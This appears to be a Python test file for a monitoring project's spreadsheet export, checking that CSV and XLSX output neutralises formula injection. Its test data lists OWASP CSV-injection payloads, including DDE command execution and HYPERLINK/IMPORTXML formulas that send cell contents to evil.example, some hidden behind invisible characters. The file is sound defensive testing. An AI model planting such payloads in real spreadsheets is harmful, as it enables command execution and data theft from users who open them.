"""Spreadsheet-safe export: formula injection is neutralised, numbers and dates stay usable."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
import unicodedata
from itertools import dropwhile
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from kursk_monitor import export
from kursk_monitor.dataset import load_dataset
from kursk_monitor.export import DANGEROUS_PREFIXES, neutralise, neutralise_text, to_csv_bytes, to_xlsx_bytes
from kursk_monitor.filters import ViewFilter
from kursk_monitor.formula_guard import FORMULA_STARTS, INVISIBLE_OTHERS, QUOTE
from kursk_monitor.labels import Labels

# Characters that show nothing, drawn independently of the implementation (Unicode categories).
INVISIBLE = st.characters(categories=("Cc", "Cf", "Zs", "Zl", "Zp"))


def formula_after_invisible(text: str) -> bool:
    """Oracle: the first character that is not a control, format, space or filler character starts a formula."""
    invisible = ("Cc", "Cf", "Zs", "Zl", "Zp")
    core = "".join(dropwhile(lambda c: unicodedata.category(c) in invisible or c in INVISIBLE_OTHERS, text))
    return text.startswith(DANGEROUS_PREFIXES) or core.startswith(FORMULA_STARTS)


ROOT = Path(__file__).resolve().parent.parent

# OWASP "CSV Injection" payloads and variants; each must come out prefixed with a single quote.
INJECTIONS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\r\n=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1+1)",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
    # a formula behind characters that show nothing: spreadsheets and writers drop them
    " =1+1 (leading space)",
    '\x01=HYPERLINK("http://evil.example/","click")',
    "\x1f\x1e@SUM(1+1)",
    "\x85-1+1",
    "\u00a0+1",
    "\u200b=1+1",
    "\u200d\u200c=1+1",
    "\u200e=1+1",
    "\u202e=1+1",
    "\u2066@SUM(1)",
    "\u2028=1+1",
    "\u3000＝1+1",
    "\ufeff=1+1",
    "\u3164=1+1",
    "\ufe0f=1+1",
    "\n=1+1",
]
SAFE_TEXTS = [
    "Sudzha",
    "Nordkoreanische Truppen in Kursk – Übersicht",
    "1,500 troops",
    "\u200bSudzha",
    "\x01text",
    "'quoted already",
    "",
    "a=b",
    "12-15",
]


@pytest.mark.parametrize("payload", INJECTIONS)
def test_injection_payload_is_prefixed(payload):
    assert neutralise_text(payload) == "'" + payload


@pytest.mark.parametrize("text", SAFE_TEXTS)
def test_safe_text_is_unchanged(text):
    assert neutralise_text(text) == text


@pytest.mark.parametrize("payload", INJECTIONS)
def test_csv_cell_is_prefixed_after_parsing(payload):
    frame = pd.DataFrame({"title": [payload], "value": [5]})
    text = to_csv_bytes(frame).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1][0] == "'" + payload
    assert rows[1][1] == "5"


def test_numbers_stay_numbers():
    frame = pd.DataFrame(
        {
            "value_low": pd.array([-5, 1500, None], dtype="Int64"),
            "lat": [51.19, -12.5, float("nan")],
            "count": [-1, 0, 3],
        }
    )
    safe = neutralise(frame)
    assert safe["value_low"].tolist()[:2] == [-5, 1500]
    assert pd.api.types.is_integer_dtype(safe["value_low"])
    assert pd.api.types.is_float_dtype(safe["lat"])
    text = to_csv_bytes(frame).decode("utf-8-sig").splitlines()
    assert text[1] == "-5,51.19,-1"
    book = load_workbook(io.BytesIO(to_xlsx_bytes(frame)))
    sheet = book.active
    assert [c.value for c in sheet[2]] == [-5, 51.19, -1]
    assert sheet["A2"].data_type == "n"


def test_lists_joined_dates_iso_bom_and_umlauts():
    frame = pd.DataFrame(
        {
            "source_ids": [("S001", "S002"), ()],
            "claimed_on": pd.to_datetime(["2024-10-18", None]),
            "name_de": ["Südkorea", "Straße"],
        }
    )
    data = to_csv_bytes(frame)
    assert data.startswith(b"\xef\xbb\xbf")
    lines = data.decode("utf-8-sig").splitlines()
    assert lines[1] == "S001;S002,2024-10-18,Südkorea"
    assert lines[2] == ",,Straße"


def test_list_starting_with_dangerous_id_is_prefixed():
    frame = pd.DataFrame({"ids": [("=1+1", "S001")]})
    assert neutralise(frame)["ids"][0] == "'=1+1;S001"


def test_header_is_neutralised():
    frame = pd.DataFrame({"=evil()": ["x"]})
    assert list(neutralise(frame).columns) == ["'=evil()"]


def test_xlsx_has_no_formula_cells():
    frame = pd.DataFrame({"text": INJECTIONS, "n": range(len(INJECTIONS))})
    book = load_workbook(io.BytesIO(to_xlsx_bytes(frame)))
    sheet = book.active
    texts = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in cells)
    # openpyxl drops characters XML cannot hold (e.g. a bare CR survives; control chars do not)
    for original, written in zip(INJECTIONS, texts, strict=True):
        assert written.startswith("'"), (original, written)


def test_xlsx_several_sheets():
    data = to_xlsx_bytes({"figures": pd.DataFrame({"a": [1]}), "events": pd.DataFrame({"b": ["=x"]})})
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["figures", "events"]
    assert book["events"]["A2"].value == "'=x"


@given(st.text())
def test_property_output_never_starts_dangerous_unless_prefixed(text):
    out = neutralise_text(text)
    assert not formula_after_invisible(out) or out.startswith(QUOTE), repr(out)
    assert out == (QUOTE + text if formula_after_invisible(text) else text)


@given(st.text(INVISIBLE, min_size=1, max_size=4), st.sampled_from(FORMULA_STARTS), st.text(max_size=20))
def test_property_formula_behind_invisible_characters_is_prefixed(hidden, start, rest):
    text = hidden + start + rest
    assert neutralise_text(text) == QUOTE + text


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_property_csv_cells_safe(texts):
    frame = pd.DataFrame({"text": texts})
    rows = list(csv.reader(io.StringIO(to_csv_bytes(frame).decode("utf-8-sig"), newline="")))
    cells = [row[0] if row else "" for row in rows[1:]]
    for original, cell in zip(texts, cells, strict=True):
        assert not formula_after_invisible(cell) or cell.startswith(QUOTE)
        assert cell == neutralise_text(original)


@given(st.lists(st.text(INVISIBLE, max_size=3).flatmap(lambda h: st.text(max_size=12).map(h.__add__)), max_size=6))
@settings(deadline=None)
def test_property_xlsx_never_holds_a_formula(texts):
    book = load_workbook(io.BytesIO(to_xlsx_bytes(pd.DataFrame({"text": texts}))))
    for row in book.active.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", repr(cell.value)
            assert not formula_after_invisible(str(cell.value or "")) or str(cell.value).startswith(QUOTE)


@given(st.text().filter(lambda s: not formula_after_invisible(s)))
def test_property_safe_strings_round_trip(text):
    assert neutralise_text(text) == text
    frame = pd.DataFrame({"text": [text]})
    rows = list(csv.reader(io.StringIO(to_csv_bytes(frame).decode("utf-8-sig"), newline="")))
    assert (rows[1][0] if rows[1] else "") == text


def test_export_command_writes_filtered_tables(small_data_dir, tmp_path):
    out = tmp_path / "export"
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "kursk_monitor",
            "export",
            "--out",
            str(out),
            "--from",
            "2024-11-01",
            "--to",
            "2025-01-31",
            "--metric",
            "killed",
            "--lang",
            "de",
        ],
        cwd=ROOT,
        env={"KURSK_MONITOR_DATA": str(small_data_dir), "PATH": "/usr/bin:/bin"},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    for name in export.EXPORT_TABLES:
        assert (out / f"{name}.csv").exists()
    figures = pd.read_csv(out / "figures.csv", encoding="utf-8-sig")
    assert set(figures["metric"]) <= {"killed"}
    dates = pd.to_datetime(figures["claimed_on"], format="%Y-%m-%d")
    assert dates.min() >= pd.Timestamp("2024-11-01")
    assert dates.max() <= pd.Timestamp("2025-01-31")
    data = load_dataset(small_data_dir)
    expected = data.tables["figures"]
    expected = expected[
        (expected["metric"] == "killed")
        & (expected["claimed_on"] >= "2024-11-01")
        & (expected["claimed_on"] <= "2025-01-31")
    ]
    assert len(figures) == len(expected)
    cited = {s for ids in figures["source_ids"].dropna() for s in ids.split(";")}
    sources = pd.read_csv(out / "sources.csv", encoding="utf-8-sig")
    assert cited <= set(sources["source_id"])
    book = load_workbook(out / "kursk_monitor_export.xlsx", read_only=True)
    assert book.sheetnames == list(export.EXPORT_TABLES)
    description = (out / "export_filter.txt").read_text(encoding="utf-8")
    assert "Getötete" in description
    assert "01.11.2024" in description


def test_export_neutralises_hostile_data(tmp_path):
    hostile = ROOT / "tests" / "fixtures" / "xss"
    if not hostile.is_dir():
        pytest.skip("tests/fixtures/xss not present")
    data = load_dataset(hostile)
    export.write_export(data.select(ViewFilter()), Labels.build(data.tables, "en"), tmp_path)
    for name in export.EXPORT_TABLES:
        text = (tmp_path / f"{name}.csv").read_text(encoding="utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                assert not formula_after_invisible(cell) or cell.startswith(QUOTE), (name, cell)


def test_built_in_table_download_is_off():
    """st.dataframe's own CSV download does not neutralise formulas; the app offers safe ones instead."""
    import tomllib

    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True


@pytest.mark.parametrize(("lang", "count"), [("en", "40,000"), ("de", "40.000")])
def test_a_cell_too_long_for_excel_says_so_in_the_workbook(lang, count):
    text = "a" * 39_990 + "end of text"[:10]
    frame = pd.DataFrame({"note": [text, "short"]})
    book = load_workbook(io.BytesIO(to_xlsx_bytes(frame, lang=lang)))
    long_cell, short_cell = (row[0] for row in book.active.iter_rows(min_row=2, values_only=True))
    assert len(long_cell) == export.EXCEL_CELL_LIMIT
    assert long_cell.startswith("a" * 1000)
    assert long_cell.endswith(export.t("export.cut_for_excel", lang, n=count))
    assert short_cell == "short"
    rows = list(csv.reader(io.StringIO(to_csv_bytes(frame).decode("utf-8-sig"), newline="")))
    assert rows[1][0] == text  # the CSV keeps the whole text
    limit = export.fmt_number(export.EXCEL_CELL_LIMIT, lang)
    assert limit in export.t("export.cut_for_excel", lang, n=count) and limit in export.t(
        "export.neutralised_note", lang
    )
